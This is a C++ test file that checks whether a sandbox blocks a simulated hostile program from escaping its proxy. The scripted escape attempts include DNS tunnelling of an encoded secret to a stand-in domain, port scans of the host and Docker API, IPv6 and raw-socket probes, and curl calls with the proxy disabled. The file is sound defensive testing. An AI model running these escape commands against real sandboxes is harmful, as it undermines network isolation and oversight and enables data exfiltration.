// A hostile program that leaves the proxy aside.

#include "common/base/format.h"
#include "tests/attacks/network/bait.h"
#include "tests/attacks/network/environments.h"
#include "tests/support/catch.h"

namespace workmux::test {
namespace {

using Catch::Contains;

// A line for each address of the host.
std::string ForEachAddress(const std::string& line) {
  std::string script;
  for (const std::string& address : HostAddresses())
    script += "./attacker " + Format(fmt::runtime(line), address) + "\n";
  return script;
}

}  // namespace

// Control: the same program in a sandbox with an open network, which reaches a server of the host.
TEST_CASE("Attack N1: no address is reached beside the proxy",
          "[attack][N1][namespace][docker][podman][podman_root][firewall]") {
  const Bait bait;
  const std::string host = ForEachAddress(Format("reach {{}} {}", bait.port()));
  const std::string others =
      "for a in 1.1.1.1 8.8.8.8 93.184.216.34 10.0.2.2 172.17.0.1 192.168.0.1; do "
      "for p in 22 80 443; do ./attacker reach $a $p; done; done\n";
  for (const Environment& environment : UsableEnvironments()) {
    INFO(environment.name);
    NetworkStage stage(environment);
    CHECK(CountLines(stage.Open(host), "reached") > 0);
    const int before = bait.reached();
    CHECK(before > 0);
    const std::string out = stage.Restricted(host + others + "echo tried");
    INFO(out);
    CHECK(CountLines(out, "reached") == 0);
    CHECK(CountLines(out, "tried") == 1);
    CHECK(bait.reached() == before);
  }
}

// Control: the same program in the host's network, as the engine itself gives it.
TEST_CASE("Attack N2: nor by IPv6",
          "[attack][N2][namespace][docker][podman][podman_root][firewall]") {
  const Bait bait;
  const std::string own = Format("./attacker reach ::1 {}\n", bait.port());
  const std::string script =
      own + Format("./attacker reach ::ffff:127.0.0.1 {}\n", bait.port()) +
      "for a in 2606:4700:4700::1111 fe80::1 fd00::1 64:ff9b::101:101 2002:101:101::1; do "
      "./attacker reach $a 443; ./attacker ask $a 53 example.com; done\n"
      "grep -v ' lo$' /proc/net/if_inet6; echo tried";
  for (const Environment& environment : UsableEnvironments()) {
    INFO(environment.name);
    NetworkStage stage(environment);
    const std::vector<std::string> in_hosts_network =
        environment.engine == "namespace" ? std::vector<std::string>{}
                                          : std::vector<std::string>{"--network=host"};
    CHECK(CountLines(stage.Plain(in_hosts_network, own), "reached") == 1);
    const int before = bait.reached();
    const std::string out = stage.Restricted(script);
    INFO(out);
    CHECK(CountLines(out, "reached") == 0);
    CHECK(CountLines(out, "answered") == 0);
    CHECK(CountLines(out, "tried") == 1);
    // No interface but loopback has an address.
    if (environment.isolated()) CHECK_THAT(out, !Contains(" eth"));
    CHECK(bait.reached() == before);
  }
}

// Control: the same questions in a sandbox with an open network, which a server of the host
// answers.
TEST_CASE("Attack N3: no question leaves for a name server, whatever is in it",
          "[attack][N3][namespace][docker][podman][podman_root][firewall]") {
  const Bait bait;
  const std::string host =
      ForEachAddress(Format("ask {{}} {} c2VjcmV0.tunnel.example.com", bait.port()));
  const std::string script =
      host +
      "for a in 127.0.0.1 127.0.0.11 127.0.0.53 1.1.1.1 8.8.8.8 "
      "$(sed -n 's/^nameserver //p' /etc/resolv.conf); do "
      "./attacker ask $a 53 c2VjcmV0.tunnel.example.com; ./attacker reach $a 53; "
      "./attacker reach $a 853; done\n"
      "timeout 10 getent ahosts example.com; echo tried";
  for (const Environment& environment : UsableEnvironments()) {
    INFO(environment.name);
    NetworkStage stage(environment);
    CHECK(CountLines(stage.Open(host), "answered") > 0);
    const int before = bait.reached();
    CHECK(before > 0);
    const std::string out = stage.Restricted(script);
    INFO(out);
    CHECK(CountLines(out, "answered") == 0);
    CHECK(CountLines(out, "reached") == 0);
    CHECK_THAT(out, !Contains("STREAM") && Contains("tried"));
    CHECK(bait.reached() == before);
  }
}

// Control: the same program in the same sandbox with an open network, which makes further kinds of
// sockets, and in Docker's is answered.
TEST_CASE("Attack N4: no socket of another family can be made, and nothing answers a ping",
          "[attack][N4][namespace][docker][podman][podman_root][firewall]") {
  const std::string script =
      "./attacker families\n" + ForEachAddress("ping {}") + "./attacker ping 127.0.0.1\n";
#if defined(__x86_64__)
  const std::string filtered =
      "families: 1 2 10 16; netlink: 0; io_uring: 38; x32: 38; socketcall: 38; i386: 97;";
#else
  const std::string filtered = "families: 1 2 10 16; netlink: 0; io_uring: 38;";
#endif
  for (const Environment& environment : UsableEnvironments()) {
    INFO(environment.name);
    NetworkStage stage(environment);
    const std::string open = stage.Open(script);
    INFO(open);
    CHECK_THAT(open, Contains(" 38"));  // AF_ALG
    if (environment.engine == "docker") CHECK(CountLines(open, "answered") > 1);
    const std::string out = stage.Restricted(script);
    INFO(out);
    CHECK(CountLines(out, filtered) == 1);
    // Its own loopback at most.
    CHECK(CountLines(out, "answered") <= 1);
  }
}

// Control: the same scan in a sandbox with an open network, which finds a port of the host.
TEST_CASE("Attack N6: no port of the host is open, on whatever address",
          "[attack][N6][namespace][docker][podman][podman_root][firewall]") {
  const Bait bait;
  const std::string host =
      ForEachAddress(Format("scan {{}} {} {}", bait.port() - 20, bait.port() + 20));
  // Those of a host that engines name, Docker's API among their ports, and all of loopback.
  const std::string script =
      host +
      "for a in 172.17.0.1 192.168.65.7 192.168.65.254 10.0.2.2 10.0.2.100 169.254.1.2; do "
      "for p in 22 111 631 2375 2376 5432 6443; do ./attacker scan $a $p $p; done; done\n"
      "getent ahosts host.docker.internal host.containers.internal\n"
      "./attacker scan 127.0.0.1 1 65535 | sed 's/^/loopback /'";
  const std::string found = " " + std::to_string(bait.port());
  for (const Environment& environment : UsableEnvironments()) {
    INFO(environment.name);
    NetworkStage stage(environment);
    CHECK_THAT(stage.Open(host), Contains(found));
    const int before = bait.reached();
    const std::string out = stage.Restricted(script);
    INFO(out);
    CHECK_THAT(out, !Contains(found));
    if (environment.isolated()) {
      CHECK_THAT("\n" + out, !Contains("\nopen: "));
      // The proxy and the bridge, through the sandbox's own relay.
      CHECK_THAT(out, Contains("loopback open: 3127 3128\n"));
    }
    CHECK(bait.reached() == before);
  }
}

// Control: the same requests in a sandbox with an open network, which a server of the host answers.
TEST_CASE("Attack N15: programs that are told to use no proxy find no network",
          "[attack][N15][namespace][docker][podman][podman_root][firewall]") {
  const Bait bait;
  const std::string url = Format("http://{}:{}/", HostAddresses().at(0), bait.port());
  const std::string script = Format(
      "curl --silent --max-time 5 --noproxy '*' {0}; NO_PROXY='*' no_proxy='*' curl --silent "
      "--max-time 5 {0}\n"
      "env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy curl --silent --max-time 5 "
      "{0}\n"
      "git -c http.proxy= ls-remote {0} >/dev/null 2>&1; echo tried",
      url);
  for (const Environment& environment : UsableEnvironments()) {
    INFO(environment.name);
    NetworkStage stage(environment);
    const int begin = bait.reached();
    CHECK(CountLines(stage.Open(script), "bait") == 3);
    const int before = bait.reached();
    CHECK(before >= begin + 3);
    const std::string out = stage.Restricted(script);
    INFO(out);
    CHECK(CountLines(out, "bait") == 0);
    CHECK(CountLines(out, "tried") == 1);
    CHECK(bait.reached() == before);
  }
}

}  // namespace workmux::test
